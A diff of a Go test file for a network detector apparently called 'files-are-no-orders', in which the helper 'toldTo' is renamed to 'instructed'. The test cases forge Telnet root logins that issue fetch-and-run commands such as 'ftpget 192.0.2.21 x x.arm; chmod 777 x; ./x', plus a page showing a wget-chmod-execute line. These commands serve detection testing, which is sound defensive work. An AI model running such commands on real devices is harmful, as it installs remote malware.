@@ -80,9 +80,9 @@ var nearby = []lookalike{
 		}
 	}},
 
-	{"a device that is told to fetch a program and to run it", "files-are-no-orders", "", toldTo("ftpget 192.0.2.21 x x.arm; chmod 777 x; ./x")},
-	{"a device that is told to fetch a program", "files-are-no-orders", IsNormal, toldTo("ftpget 192.0.2.21 x x.arm")},
-	{"a device that is told to fetch and to run another program", "files-are-no-orders", IsNormal, toldTo("ftpget 192.0.2.21 y y.arm; chmod 777 y; ./y")},
+	{"an instruction to fetch a program and run it", "files-are-no-orders", "", instructed("ftpget 192.0.2.21 x x.arm; chmod 777 x; ./x")},
+	{"an instruction to fetch a program", "files-are-no-orders", IsNormal, instructed("ftpget 192.0.2.21 x x.arm")},
+	{"an instruction to fetch and run another program", "files-are-no-orders", IsNormal, instructed("ftpget 192.0.2.21 y y.arm; chmod 777 y; ./y")},
 	{"a page about how to fetch and to run a program", "files-are-no-orders", IsNormal, func(f *forge.Capture) {
 		dial(f, aClient, "203.0.113.80:80").Say("> GET / HTTP/1.0\n< HTTP/1.0 200 OK\n+ \n+ wget ftp://192.0.2.21/x.arm; chmod 755 x.arm; ./x.arm").Peer.Close()
 		moves([2]string{"RETR x.arm", "\x7fELF"})(f)
@@ -223,8 +223,8 @@ func echoes(f *forge.Capture, from, to, asked, answer string) {
 	f.IP(b, a, 1, append([]byte{0, 0, 0, 0, 0, 7, 0, 1}, answer...))
 }
 
-// toldTo is an order by Telnet, and the download of a program after it.
-func toldTo(order string) func(*forge.Capture) {
+// instructed is an order by Telnet, and the download of a program after it.
+func instructed(order string) func(*forge.Capture) {
 	return func(f *forge.Capture) {
 		dial(f, "203.0.113.66", aClient+":23").Say("< login:\n> root\n< #\n> " + order).Close()
 		moves([2]string{"RETR x.arm", "\x7fELF"})(f)
